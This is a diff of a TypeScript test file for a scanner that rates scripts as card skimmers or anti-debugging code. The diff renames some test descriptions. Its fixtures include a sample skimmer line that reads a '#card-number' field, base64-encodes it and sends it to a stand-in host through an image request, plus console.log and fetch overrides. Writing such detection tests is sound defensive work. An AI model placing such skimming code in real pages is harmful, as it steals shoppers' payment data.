@@ -12,7 +12,7 @@ import { openParser } from '../syntax/syntax.ts'
 const parse = await openParser()
 const usesOf = (code: string) => usesInCode(parse(code))
 
-/** Each finding as `what: lines`, of code alone. */
+/** Each finding in the code as `what: lines`. */
 const found = (code: string) => {
   const uses = usesOf(code)
   const row = (what: string | undefined, lines: number[]) => `${what}: ${lines.join(',')}`
@@ -77,21 +77,21 @@ const cases: [part: Part, code: string, ...rows: string[]][] = [
   ['antiDebugging', 'console.log = () => {}', 'console: 1'],
 ]
 
-describe('found in code', () => {
+describe('finds in code', () => {
   for (const [part, code, ...rows] of cases) {
     test(`${part}: ${code.replaceAll('\n', ' ⏎ ')}`, () =>
       assert.deepEqual(found(code)[part]().toSorted(), rows.toSorted()))
   }
 })
 
-describe('skimmers', () => {
+describe('rates a script as a skimmer', () => {
   const verdict = (code: string) => {
     const uses = usesOf(code)
     const [fields, destinations] = [findFields(uses), findDestinations(uses)]
     return findSkimming({ uses, fields, destinations, antiDebugging: [] }).verdict
   }
   const read = 'document.querySelector("#card-number").value'
-  for (const [code, wanted] of [
+  for (const [code, expected] of [
     [
       `addEventListener("submit", () => { new Image().src = "https://x.example/?" + btoa(${read}) })`,
       'likely',
@@ -101,6 +101,6 @@ describe('skimmers', () => {
     ['window.fetch = function () {}', 'some'],
     ['console.log(1)', 'none'],
   ] as const) {
-    test(`${wanted}: ${code}`, () => assert.equal(verdict(code), wanted))
+    test(`${expected}: ${code}`, () => assert.equal(verdict(code), expected))
   }
 })
